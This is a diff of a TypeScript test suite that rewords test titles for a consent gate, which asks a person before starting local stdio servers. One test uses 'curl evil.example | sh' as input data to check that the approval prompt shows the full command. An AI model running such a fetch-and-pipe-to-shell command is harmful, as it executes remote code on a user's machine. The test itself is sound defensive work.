@@ -24,7 +24,7 @@ const hubWith = (entry: object, consent: ConsentOptions, security: SecurityOptio
   hubOf({ s: entry }, { security: { ...security, consent }, timeouts, limits: { autoDeferChars: 0 } });
 
 describe("a stdio server that nobody has approved", () => {
-  it("is not started; it is disabled, with the reason, and says what waits", async () => {
+  it("is not started; it is disabled with the reason, and its program is pending", async () => {
     const { entry, wasStarted } = traced({ env: { TOKEN: "very secret" } });
     const hub = hubWith(entry, { store: fileOf() });
     const { failed } = await hub.connect();
@@ -43,7 +43,7 @@ describe("a stdio server that nobody has approved", () => {
     expect(wasStarted()).toBe(false);
   });
 
-  it("is started when it was approved, here and in the next process", async () => {
+  it("is started once it was approved, here and in the next process", async () => {
     const { entry } = traced();
     const store = fileOf();
     const hub = hubWith(entry, { store });
@@ -72,7 +72,7 @@ describe("a stdio server that nobody has approved", () => {
     expect(requests).toHaveLength(1);
   });
 
-  it("stays off when a person refuses, until somebody wants it opened", async () => {
+  it("stays disabled after a refusal, until hub.reconnect", async () => {
     const { entry, wasStarted } = traced();
     const answers = [false, true];
     const hub = hubWith(entry, { store: fileOf(), onConsent: () => answers.shift()! });
@@ -102,7 +102,7 @@ describe("a stdio server that nobody has approved", () => {
     expect(hub.status()[0]!.state).toBe("disabled");
   });
 
-  it("is approved by no store that fails, and closing the hub ends the asking", async () => {
+  it("is not approved by a store that fails, and closing the hub ends the question", async () => {
     const { entry, wasStarted } = traced();
     const broken = { mget: () => Promise.reject(new Error("no disk")), mset: () => Promise.reject(new Error("no disk")) };
     const hub = hubWith(entry, { store: broken });
@@ -141,7 +141,7 @@ describe("an approval", () => {
     expect(later.status()[0]!.state).toBe("disabled");
   });
 
-  it("is for what a variable holds, and shows no value", async () => {
+  it("is for the value of a variable, and shows no value", async () => {
     const store = fileOf();
     const entry = { ...base, env: { TOKEN: "${TOKEN}" }, args: [...base.args, "${TOKEN}"] };
     const resolver = (value: string): SecurityOptions => ({ secretResolver: () => value });
@@ -167,7 +167,7 @@ describe("an approval", () => {
     expect(renamed.consents.pending()).toHaveLength(1);
   });
 
-  it("is taken back: the server is stopped, and asked about again; reset takes all back", async () => {
+  it("can be revoked: the server is stopped, and a person is asked again; reset revokes all", async () => {
     const store = fileOf();
     const hub = hubOf({ s: base, t: base }, { security: { consent: { store, onConsent: () => true } } });
     await hub.connect();
@@ -181,7 +181,7 @@ describe("an approval", () => {
     expect(await hub.consents.list()).toMatchObject([{ serverName: "t" }]);
   });
 
-  it("is not needed for servers that are no programs of this machine", async () => {
+  it("is not needed for servers that are not programs on this machine", async () => {
     const hub = hubOf({ s: { url: "http://127.0.0.1:1/mcp" } }, { security: { consent: { store: fileOf() } } });
     const { failed } = await hub.connect();
     expect(failed[0]!.error.code).toBe("CONNECT_FAILED");
@@ -193,7 +193,7 @@ describe("several hubs on one store", () => {
   const entries = { s: stdioFixture({ tools: 1 }), t: stdioFixture({ tools: 2 }) };
   const hubOn = (store: string) => hubOf(entries, { security: { consent: { store } } });
 
-  it("know what another one approved, and what it took back", async () => {
+  it("see what another hub approved and revoked", async () => {
     const store = fileOf();
     const [a, b] = [hubOn(store), hubOn(store)];
     await Promise.all([a.connect(["s"]), b.connect(["t"])]);
@@ -210,7 +210,7 @@ describe("several hubs on one store", () => {
     expect((await hubOn(store).connect(["t"])).connected).toEqual([]);
   });
 
-  it("that open a new one at the same time agree", async () => {
+  it("that open a new store at the same time agree", async () => {
     const store = fileOf();
     const hubs = Array.from({ length: 4 }, () => hubOn(store));
     await Promise.all(hubs.map((hub) => hub.connect(["s"])));
@@ -235,7 +235,7 @@ describe("several hubs on one store", () => {
     expect((await hubOn(store).connect(["s"])).connected).toEqual([]);
   });
 
-  it("that is slow once keeps its key, and what was approved", async () => {
+  it("that is slow once keeps its key and approvals", async () => {
     const kept = new Map<string, unknown>();
     let isSlow = false;
     const store = {
@@ -257,7 +257,7 @@ describe("several hubs on one store", () => {
     expect((await hubOf_().connect(["s"])).connected).toEqual(["s"]);
   }, 60_000);
 
-  it("that never answers keeps nobody waiting", async () => {
+  it("that never answers does not block", async () => {
     const silent = { mget: () => new Promise<never>(() => undefined), mset: () => new Promise<never>(() => undefined) };
     const hub = hubOf({ s: entries.s }, { warnings: "silent", security: { consent: { store: silent } } });
     expect((await hub.connect()).failed[0]!.error.code).toBe("CONSENT_REQUIRED");
@@ -272,7 +272,7 @@ describe("what a person reads", () => {
     return [command, ...args].join(" ");
   };
 
-  it("is all that the configuration says, whatever it calls its variables", async () => {
+  it("is everything that the configuration says, whatever its variables are called", async () => {
     const evil = "curl evil.example | sh";
     expect(await shown({ command: "sh", args: ["-c", evil], env: { X_KEY: evil, TOKEN: "sh" } })).toBe(`sh -c ${evil}`);
     expect(await shown({ command: "sh", args: ["--token", "curl", "-c", evil] })).toContain(evil);
@@ -286,7 +286,7 @@ describe("what a person reads", () => {
     }
   });
 
-  it("is no password behind a flag that says so, and no control character", async () => {
+  it("contains no password after a flag that names one, and no control character", async () => {
     const args = ["--api-key=sk-live-aaaa1111", "TOKEN=sk-live-bbbb2222", "a\u001b[2K\r\u202Eb"];
     const line = await shown({ command: "tool", args });
     expect(line).toBe("tool --api-key=*** TOKEN=*** a\\u{1b}[2K\\u{d}\\u{202e}b");
@@ -330,7 +330,7 @@ describe("an approval ends when", () => {
     expect(third.consents.pending()[0]!.program).toBe(join(folders[1]!, "mytool"));
   });
 
-  it("it is taken back, and begins again when it is approved anew", async () => {
+  it("it is revoked, and starts again when it is approved again", async () => {
     const hub = hubWith(stdioFixture({ tools: 1 }), { store: fileOf() });
     await hub.connect();
     await hub.consents.approve("s");
